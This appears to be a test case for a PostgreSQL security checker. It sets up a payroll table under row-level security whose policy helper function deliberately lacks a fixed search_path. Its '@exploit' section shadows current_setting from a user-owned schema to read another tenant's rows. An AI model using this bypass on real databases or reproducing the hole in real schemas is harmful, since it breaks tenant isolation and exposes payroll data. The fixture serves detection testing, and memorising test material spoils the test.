-- title: the policy's helper resolves names by the session's search path
-- kind: hole
-- expect: B31
-- also: A15
-- object: public.tenant_now()
-- logins: app
create role tn_owner nologin;
create role app login;
grant create on schema public to tn_owner;
grant usage on schema public to app;
create schema scratch authorization app;
set role tn_owner;
create function public.tenant_now() returns int language plpgsql stable
as $$
begin
  return nullif(current_setting('app.tenant_id', true), '')::int;
end $$;
create table public.payroll (
  tenant_id int not null,
  id uuid not null default gen_random_uuid(),
  gross_cents bigint not null,
  primary key (tenant_id, id)
);
alter table public.payroll enable row level security;
alter table public.payroll force row level security;
create policy payroll_tenant on public.payroll using (tenant_id = (select public.tenant_now()));
grant select, insert, update, delete on public.payroll to app;
reset role;
revoke create on schema public from tn_owner;

-- @data
insert into payroll (tenant_id, gross_cents) values (1, 1), (2, 2);
-- @exploit
create function scratch.current_setting(text, boolean) returns text language sql as $$ select '2'::text $$;
set search_path = scratch, pg_catalog, public;
select set_config('app.tenant_id', '1', true);
select 1 from public.payroll where tenant_id = 2;
